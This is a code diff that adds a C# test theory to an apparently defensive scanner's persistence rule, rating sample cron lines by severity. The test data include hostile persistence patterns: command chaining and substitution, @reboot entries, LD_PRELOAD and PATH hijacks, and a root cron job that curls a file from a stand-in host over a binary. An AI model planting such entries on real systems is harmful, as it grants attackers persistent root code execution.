@@ -72,6 +72,32 @@ public sealed class PersistenceRuleTests
         Assert.Empty(TestBehavior.Findings(record, "behavior.persistence"));
     }
 
+    // Backups and certificates: the image's own command could start the same program itself.
+    [Theory]
+    [InlineData("0 3 * * * root /usr/local/bin/backup.sh", Severity.Medium)]
+    [InlineData("MAILTO=\"\"\n*/5 * * * * www-data php /srv/cron.php >> /var/log/cron.log 2>&1", Severity.Medium)]
+    [InlineData("@daily root /opt/own --all /data", Severity.Medium)]
+    [InlineData("0 3 * * * root /usr/bin/certbot renew --quiet", Severity.Medium)]
+    [InlineData("0 3 * * * root /opt/made", Severity.High)]
+    [InlineData("0 3 * * * root /opt/changed", Severity.High)]
+    [InlineData("0 3 * * * root /opt/own; /opt/made", Severity.High)]
+    [InlineData("0 3 * * * root /opt/own $(/opt/made)", Severity.High)]
+    [InlineData("0 3 * * * root /opt/own\n@reboot root /opt/made", Severity.High)]
+    [InlineData("LD_PRELOAD=/opt/made\n0 3 * * * root /opt/own", Severity.High)]
+    [InlineData("PATH=/opt/made\n0 3 * * * root /opt/own", Severity.High)]
+    [InlineData("* * * * * root /usr/bin/curl -fsSo /opt/own http://x.example/a", Severity.High)]
+    [InlineData("* * * * * root /bin/sh /opt/made", Severity.High)]
+    [InlineData("* * * * * root /usr/bin/env /opt/made", Severity.High)]
+    [InlineData("* * * * * root sh -c /opt/made", Severity.High)]
+    [InlineData("# nothing", Severity.High)]
+    public void Find_CronTable_IsMediumOnlyWhereItStartsWhatTheImageBroughtAlong(string lines, Severity severity)
+    {
+        var record = new RecordBuilder().Process(1, "/a").Process(3, "/usr/local/bin/backup.sh").Process(4, "/srv/cron.php").Process(5, "/opt/own").Process(6, "/opt/changed")
+            .Process(7, "/usr/bin/certbot").Process(8, "/usr/bin/curl").Process(9, "/bin/sh").Process(10, "/usr/bin/env").Changed("/opt/changed").Changed("/etc/cron.d/job", "added", lines + "\n");
+
+        Assert.Equal(severity, TestBehavior.Findings(record, "behavior.persistence").Single(found => found.Location == "/etc/cron.d/job").Severity);
+    }
+
     [Fact]
     public void Find_CronJobBesideAnInstallation_IsStillTold()
         => Assert.Single(TestBehavior.Findings(new RecordBuilder().Process(1, "/bin/sh").Process(4, "/usr/bin/dpkg", at: 1, end: 3).Changed("/var/lib/dpkg/status", "changed")
